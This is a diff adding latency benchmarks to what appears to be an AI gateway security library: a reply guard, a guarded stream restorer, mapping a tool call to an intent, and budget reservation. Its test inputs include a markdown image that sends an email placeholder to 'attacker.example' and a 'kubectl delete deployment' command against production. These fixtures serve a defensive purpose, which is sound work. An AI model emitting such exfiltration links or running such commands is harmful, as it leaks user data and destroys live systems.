@@ -1,5 +1,6 @@
 //! Model-gateway latency: preparing a Chat Completions request (redaction of every text, injection
-//! judging of tool results) and restoring a reply, whole and streamed.
+//! judging of tool results) and restoring a reply, whole and streamed; the reply guard on a reply
+//! and on a stream's text; reading a proposed call as an intent; a budget reservation.
 //! `cargo bench -p bulwark-core --bench gateway`.
 
 use criterion::{Criterion, Throughput, criterion_group, criterion_main};
@@ -76,6 +77,59 @@ fn gateway(c: &mut Criterion) {
         b.iter(|| {
             let _ = s.event(&conv, black_box(&chunk));
             s.event(&conv, black_box(&chunk2))
+        })
+    });
+    let policy = std::sync::Arc::new(bulwark_core::gateway::output::OutputPolicy::new(
+        scanner.clone(),
+        std::sync::Arc::new(|h: &str| h == "docs.example.com"),
+    ));
+    g.bench_function(format!("reply_guard_{}b", content.len()), |b| {
+        let text = format!("{content} ![c](https://attacker.example/c.png?d=[email#1])");
+        b.iter(|| policy.text(black_box(&text)))
+    });
+    g.bench_function("guarded_restorer_push_1kb_text", |b| {
+        let text = content[..1024].to_string();
+        b.iter(|| {
+            let mut r = Restorer::guarded(Escape::Text, Some(&policy));
+            let mut out = r.push(&conv, black_box(&text));
+            out.push_str(&r.finish(&conv));
+            out
+        })
+    });
+    g.bench_function("call_to_intent", |b| {
+        let call = bulwark_core::gateway::calls::ProposedCall {
+            id: "call_2".into(),
+            name: "run_command".into(),
+            arguments: r#"{"command":"kubectl delete deployment web -n production"}"#.into(),
+        };
+        let mapping = bulwark_core::gateway::cfg::ToolMapping::default();
+        let ctx = bulwark_core::gateway::calls::CallContext {
+            requested_by: "sre-copilot",
+            conversation: "c0ffee",
+        };
+        b.iter(|| bulwark_core::gateway::calls::intent_for(black_box(&call), &mapping, &ctx))
+    });
+    g.bench_function("budget_reserve_settle", |b| {
+        use bulwark_core::gateway::budget::{BudgetConfig, Budgets, Counters, Tokens};
+        let budgets = Budgets::new(
+            &[BudgetConfig {
+                tokens_per_day: u64::MAX / 4,
+                requests_per_minute: u64::MAX / 4,
+                ..BudgetConfig::default()
+            }],
+            &Default::default(),
+        )
+        .expect("budgets");
+        let counters = Counters::default();
+        let t = Tokens {
+            input: 1000,
+            output: 500,
+        };
+        b.iter(|| {
+            let r = budgets
+                .reserve(&counters, "sre-copilot", "gpt-4o", t, 1_800_000_000)
+                .expect("reserve");
+            budgets.settle(&counters, r, Some(t))
         })
     });
     g.bench_function("restorer_push_1kb_text", |b| {
